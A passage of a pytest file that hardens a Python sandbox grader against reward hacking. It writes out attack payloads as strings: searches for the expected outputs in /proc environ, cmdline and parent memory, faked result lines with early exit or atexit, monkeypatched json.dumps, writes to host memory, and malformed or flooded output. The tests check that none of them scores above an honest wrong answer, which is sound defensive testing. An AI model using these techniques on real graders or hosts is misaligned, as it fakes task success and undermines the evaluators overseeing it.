    result = run_sandboxed(judge.prelude(canary) + STEAL, KERNEL_ONLY)
    thread.join()
    assert "sockets 0" in result.output, result.output
    assert outputs and all(o == f"{len(SECRET)}\n" for o in outputs), outputs
    judge.check(result.output, canary)


def test_the_suite_covers_every_class():
    assert len(ATTACKS) >= 40
    prefixes = ("hook:", "ctypes", "mknod", "mkfifo", "pidfd", "/proc/<host pid>/mem", "a setsid", "fork bomb",
                "thread bomb", "memory:", "infinite output", "CPU spin", "disk filling", "deep recursion", "launcher:",
                "the prepared root")
    assert all(any(name.startswith(p) for name in ATTACKS) for p in prefixes)


# --- the grader (PythonSandbox-v0): hidden inputs, expected outputs, the result line ---
GRADER_SEED = 3


@pytest.fixture(scope="module")
def grader():
    env = PythonSandboxEnv(cpu_time_s=1, wall_time_s=2.0, memory_mb=256)
    env.reset(seed=GRADER_SEED)
    yield env
    env.close()


def _wrong(env) -> str:
    return f"def {env.function_name}(*args):\n    return None\n"


# What a reward hacker wants in its fake result line: the expected outputs. It looks wherever the grader
# could have left them; finding nothing, it claims what its own (wrong) function returns.
HUNT = '''
def hunt():
    import re
    blobs = []
    for path in ["main.py", "/proc/%d/environ" % HOST_PID, "/proc/%d/cmdline" % HOST_PID]:
        try:
            blobs.append(open(path, "rb").read().decode("latin-1"))
        except OSError:
            pass
    for blob in blobs:
        m = re.search(r"expected\\W+(\\[.*?\\])", blob)
        if m:
            return [repr(x) for x in eval(m.group(1))]
    return ["None"] * 6
'''
GRADER_ATTACKS = {
    "a fake result line, then exit before the harness": HUNT + '''
print(MARKER + json.dumps(hunt()))
os._exit(0)
''',
    "an atexit handler that prints the last result line": HUNT + '''
import atexit
atexit.register(lambda: print(MARKER + json.dumps(hunt())))
''',
    "monkeypatched json.dumps and repr in the harness": '''
import builtins
builtins.repr = lambda x: "0"
json.dumps = lambda xs: '["[]", "[]", "[]", "[]", "[]", "[]"]'
''',
    "hunting the expected outputs in host memory, environ and files": '''
found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(HOST_PID)]:
    for name in ("environ", "cmdline"):
        try:
            found.append(open("/proc/%s/%s" % (pid, name), "rb").read())
        except OSError:
            pass
for path in ("/work/wt-sandbox/envs/python_sandbox.py", "/proc/%s/mem" % HOST_PID):
    try:
        found.append(open(path, "rb").read(100))
    except OSError:
        pass
print("found", len(found), sum(len(f) for f in found))
''',
    "rewriting the grader's hidden inputs through /proc/<parent>/mem": '''
try:
    with open("/proc/%d/mem" % HOST_PID, "r+b") as mem:
        mem.seek(0x400000); mem.write(b"\\0" * 64)
except OSError as e:
    print("no", e)
''',
    "malformed result line: a dict": '''
print(MARKER + '{"a": 1}'); os._exit(0)
''',
    "malformed result line: a number": '''
print(MARKER + '5'); os._exit(0)
''',
    "malformed result line: too many strings": '''
print(MARKER + json.dumps(["None"] * 1000)); os._exit(0)
''',
    "malformed result line: deep nesting": '''
print(MARKER + "[" * 100000 + "]" * 100000); os._exit(0)
''',
    "flooding stdout so the result line is cut off": '''
import atexit
atexit.register(lambda: sys.stdout.write("z" * (1 << 20)))
''',
}


@pytest.mark.parametrize("name", list(GRADER_ATTACKS))
def test_grader_attack_earns_no_more_than_the_honest_wrong_answer(judge, grader, name):
    grader.reset(seed=GRADER_SEED)
    honest = grader.score(f"```python\n{_wrong(grader)}```")
    canary = judge.canary("grader-" + str(list(GRADER_ATTACKS).index(name)))
    body = (f"import os, sys, json\nMARKER = {MARKER!r}\nHOST_PID = {os.getpid()}\n"
            + GRADER_ATTACKS[name] + "\n" + _wrong(grader))
    reward = grader.score(f"```python\n{body}```")
    assert 0.0 <= reward <= honest, f"{name}: reward {reward} > honest {honest}"
    judge.check("", canary)
    if name.startswith("malformed"):
        assert reward == 0.0 and grader.last_grading_note.startswith("malformed result line"), grader.last_grading_note


def test_the_grader_still_rewards_a_correct_answer(grader):
    grader.reset(seed=GRADER_SEED)
    reference, inputs, name = grader.reference, grader.inputs, grader.function_name
    table = {repr(args): reference(*args) for args in inputs}  # a lookup table is a correct answer here
    answer = f"```python\n_t = {table!r}\ndef {name}(*args):\n    return _t[repr(args)]\n```"
    assert grader.score(answer) == 1.0 and grader.last_grading_note == ""
